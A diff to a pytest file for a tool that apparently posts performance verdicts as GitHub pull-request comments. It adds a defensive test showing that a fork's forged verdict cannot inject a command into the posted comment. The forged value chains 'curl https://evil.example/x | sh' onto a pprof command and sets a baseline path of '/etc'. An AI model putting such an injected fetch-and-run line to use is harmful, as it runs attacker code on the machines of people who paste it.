@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -12,6 +13,7 @@ from support.report_fixtures import pass_verdict
 from perfgate.cli import main
 from perfgate.errors import EXIT_PASS, EXIT_USAGE
 from perfgate.github import PR_CONTEXT_FILE, PrContext, write_pr_context
+from perfgate.verdict import Verdict
 
 REPO = "acme/greeter"
 FORK = "mallory/greeter"
@@ -20,11 +22,11 @@ VICTIM_SHA = "b" * 40
 
 
 def workflow_run_job(tmp_path: Path, fake: FakeGitHub, monkeypatch: pytest.MonkeyPatch, *, pr_number: int,
-                     claimed_sha: str = RUN_SHA) -> Path:
+                     claimed_sha: str = RUN_SHA, verdict: Verdict | None = None) -> Path:
     """The artifact of a fork's pull_request run (verdict.json, a pr.json it wrote as it liked) and the
     workflow_run event GitHub writes for that run (head_sha and head_repository are GitHub's)."""
     folder = tmp_path / "artifact"
-    pass_verdict().save(folder)
+    (verdict or pass_verdict()).save(folder)
     write_pr_context(folder / PR_CONTEXT_FILE, PrContext(REPO, pr_number, claimed_sha, "main", False))
     event = {"action": "completed", "repository": {"full_name": REPO},
              "workflow_run": {"id": 99, "head_sha": RUN_SHA, "head_branch": "feature", "event": "pull_request",
@@ -78,3 +80,25 @@ def test_a_pr_that_does_not_exist_posts_nothing(fake_github: FakeGitHub, tmp_pat
     assert main(["publish", "--from", str(folder)]) == EXIT_USAGE
     assert "does not exist" in capsys.readouterr().err
     assert posted_nothing(fake_github, tmp_path)
+
+
+def test_a_forged_command_in_the_verdict_is_not_posted(fake_github: FakeGitHub, tmp_path: Path, monkeypatch) -> None:
+    """The bot's comment shows a `go tool pprof` command to paste; a fork's verdict.json must not choose it."""
+    forged = pass_verdict()
+    forged = replace(forged, cpu=replace(forged.cpu, pprof_diff_command="go tool pprof -top a.pb.gz; curl "
+                                         "https://evil.example/x | sh"),
+                     baseline=replace(forged.baseline, path="/etc"))
+    fake_github.add_pull(REPO, 12, head_sha=RUN_SHA, head_repo=FORK)
+    folder = workflow_run_job(tmp_path, fake_github, monkeypatch, pr_number=12, verdict=forged)
+    assert main(["publish", "--from", str(folder), "--set", "report.plots=false"]) == EXIT_PASS
+    [comment] = fake_github.issue_comments(REPO, 12)
+    assert "curl" not in comment.body and "evil.example" not in comment.body
+    assert "PASS" in comment.body
+
+
+def test_perfgates_own_command_is_still_posted(fake_github: FakeGitHub, tmp_path: Path, monkeypatch) -> None:
+    fake_github.add_pull(REPO, 12, head_sha=RUN_SHA, head_repo=FORK)
+    folder = workflow_run_job(tmp_path, fake_github, monkeypatch, pr_number=12)
+    assert main(["publish", "--from", str(folder), "--set", "report.plots=false"]) == EXIT_PASS
+    [comment] = fake_github.issue_comments(REPO, 12)
+    assert "-diff_base=perfgate-out/baseline/cpu/rep-01.pb.gz" in comment.body
